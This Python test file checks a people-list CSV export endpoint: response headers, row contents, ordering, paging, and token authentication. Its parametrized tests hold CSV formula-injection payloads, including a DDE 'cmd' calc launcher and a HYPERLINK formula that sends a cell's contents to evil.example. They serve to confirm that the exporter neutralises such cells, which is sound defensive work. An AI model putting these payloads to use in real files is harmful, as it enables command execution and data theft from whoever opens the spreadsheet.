"""GET /api/people/export: the list as CSV, in parts, with nothing in it that a spreadsheet would run."""
from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from server.people import csv_export, reading
from server.people.csv_export import HEADER, harmless, lines
from server.storage import Tx
from tests.people import stored
from tests.people.stored import people, walked
from tests.support import Served
from tests.web.hostile import guarded, problem


async def _exported(server: Served, token: str, **params: str) -> list[dict[str, str]]:
    answer = await server.api.get("/api/people/export", token=token, params=params)
    assert answer.status == 200
    header, *rows = csv.reader(io.StringIO(answer.raw.decode(), newline=""), strict=True)
    assert tuple(header) == HEADER and all(len(row) == len(HEADER) for row in rows)
    return [dict(zip(header, row)) for row in rows]


async def test_it_is_a_file_to_keep(server: Served, token: str) -> None:
    await people(server, ("Ada", "Lovelace"))
    answer = await server.api.get("/api/people/export", token=token)
    guarded(answer)
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["Content-Disposition"] == 'attachment; filename="foyer-people.csv"'
    assert answer.raw.count(b"\r\n") == answer.raw.count(b"\n") == 2 and answer.raw.endswith(b'"\r\n')
    head = await server.api.call("HEAD", "/api/people/export", token=token)
    assert (head.status, head.raw, head.headers["Content-Type"]) == (200, b"", answer.headers["Content-Type"])


async def test_a_person_is_a_line(server: Served, token: str) -> None:
    async def add(tx: Tx) -> int:
        id_ = await stored.add_person(
            tx, "Orla", 'Br"and", t', "orla.brandt", email="orla@email.com", phone="555 1", gender="Agender",
            avatar_url="https://robohash.org/x.png", birth_date="1988-02-29", job_title="Clerk", key_skill="Ünïcødé 🎉",
            plan="Gold", plan_status="Active", payment_method="Cheque", plan_term="Annual", country="Norway")
        await stored.add_address(tx, id_, "embedded", city="First")
        await stored.add_address(tx, id_, "adopted", city="Second")
        await stored.add_card(tx, id_, "uid", "0004")
        return id_
    await people(server, ("Nobody", "Else"))
    id_ = await server.foyer.database.write(add)
    row, bare = await _exported(server, token)
    assert row["uid"] and row["created_at"] == row["updated_at"] > "2020"
    assert {**row, "uid": "", "created_at": "", "updated_at": ""} == {
        "id": str(id_), "uid": "", "first_name": "Orla", "last_name": 'Br"and", t', "username": "orla.brandt",
        "email": "orla@email.com", "phone": "555 1", "avatar_url": "https://robohash.org/x.png", "gender": "Agender",
        "birth_date": "1988-02-29", "job_title": "Clerk", "key_skill": "Ünïcødé 🎉", "plan": "Gold", "status": "Active",
        "payment_method": "Cheque", "term": "Annual", "created_at": "", "updated_at": "", "addresses": "2",
        "street_address": "12 Kiln Row", "secondary_address": "", "city": "First", "zip_code": "", "state": "",
        "country": "Norway", "cards": "1", "card_type": "visa", "card_last4": "0004", "card_expires": "2027-02-28"}
    assert (bare["first_name"], bare["addresses"], bare["cards"], bare["city"]) == ("Nobody", "0", "0", "")


async def test_it_has_the_people_of_the_list_in_its_order(
        server: Served, token: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(csv_export, "AT_ONCE", 2)
    await people(server, *[("Ada", "Lovelace", "ada")] * 5, gender="Female", country="Norway")
    await people(server, *[("Bob", "Ada")] * 4, gender="Male", country="Chile")
    queries: tuple[dict[str, str], ...] = (
        {}, {"q": "ada"}, {"q": "bob"}, {"gender": "MALE"}, {"country": "norway"}, {"q": "ada", "gender": "male"})
    for params in queries:
        listed = await walked(server, token, "/api/people", 100, **params)
        exported = await _exported(server, token, **params)
        assert [row["id"] for row in exported] == [str(person["id"]) for person in listed] and exported, params
    assert await _exported(server, token, q="nobody") == []


async def test_a_page_of_the_list_without_anybody_does_not_end_it(
        server: Served, token: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(csv_export, "AT_ONCE", 1)
    monkeypatch.setattr(reading, "MORE_PARTS", (1,))
    rare = await people(server, ("Ada",), gender="Agender", country="Norway")
    await people(server, *[("Ada",)] * 12, gender="Female", country="Norway")
    for params in ({"gender": "agender", "country": "norway"}, {"q": "ada", "gender": "agender"}):
        assert [row["id"] for row in await _exported(server, token, **params)] == [str(id_) for id_ in rare]


FORMULAS = ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\rx", "\nx", " =1", "  \u00a0=1", "\u2003@x", "＝1+1", "＋1", "－1",
            "＠x", "﹦1", "﹢1", "﹣1", "﹫x", "⁺1", "⁻1", "⁼1", "−1", "\u200d=1", "\u200c \u200c=1", " \u200d =1",
            "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example")', "\t", "=", "-", "\u3000＝1", "\ufeff=1")
HARMLESS = ("", "Ada", "a=1", "1+1", "'=1", '"=1', "a@b.example", "x-y", "12", "2026-01-01", " ", "ß", "😀", "ada\t=1",
            ";=1", ",=1", "\u200d", "O'Neil", "(=1)")


@pytest.mark.parametrize("cell", FORMULAS)
async def test_a_cell_that_a_spreadsheet_would_run_begins_with_an_apostrophe(cell: str) -> None:
    assert harmless(cell) == "'" + cell


@pytest.mark.parametrize("cell", HARMLESS)
async def test_any_other_cell_stays_as_it_is(cell: str) -> None:
    assert harmless(cell) == cell


ODD: tuple[Any, ...] = ('a"b', 'a""b', "a,b", "a;b", "a\r\nb", "a\nb", '"', "\r\n", None, 7)


@pytest.mark.parametrize("cell", [*FORMULAS, *HARMLESS, *ODD])
async def test_every_cell_is_read_back_as_it_was_written(cell: Any) -> None:
    written = lines([[cell, "between", cell]]).decode()
    assert written.startswith('"') and written.endswith('"\r\n')
    wanted = "" if cell is None else harmless(str(cell))
    assert list(csv.reader(io.StringIO(written, newline=""), strict=True)) == [[wanted, "between", wanted]]


async def test_no_field_of_a_person_can_be_a_formula(server: Served, token: str) -> None:
    evil = "=HYPERLINK(\"https://evil.example?\"&A1)"
    fields = ("email", "phone", "avatar_url", "gender", "birth_date", "job_title", "key_skill", "plan", "plan_status",
              "payment_method", "plan_term", "country")

    async def add(tx: Tx) -> None:
        id_ = await stored.add_person(tx, evil, evil, evil, **dict.fromkeys(fields, evil))
        await stored.add_address(tx, id_, "uid")
        await stored.add_card(tx, id_, "uid")
        for table, columns in (("addresses", ("street_address", "secondary_address", "city", "zip_code", "state",
                                              "country", "country_code", "time_zone")),
                               ("cards", ("type", "last4", "expires"))):
            for column in columns:
                await tx.run(f"UPDATE {table} SET {column} = $1", evil)
        await tx.run("UPDATE people SET uid = $1", evil)
    await server.foyer.database.write(add)
    row, = await _exported(server, token)
    numbers = {"id", "created_at", "updated_at", "addresses", "cards"}
    assert {name: value for name, value in row.items() if name not in numbers} == dict.fromkeys(
        set(HEADER) - numbers, "'" + evil)


async def test_nobody_takes_it_without_a_token(server: Served) -> None:
    problem(await server.api.get("/api/people/export"), 401)
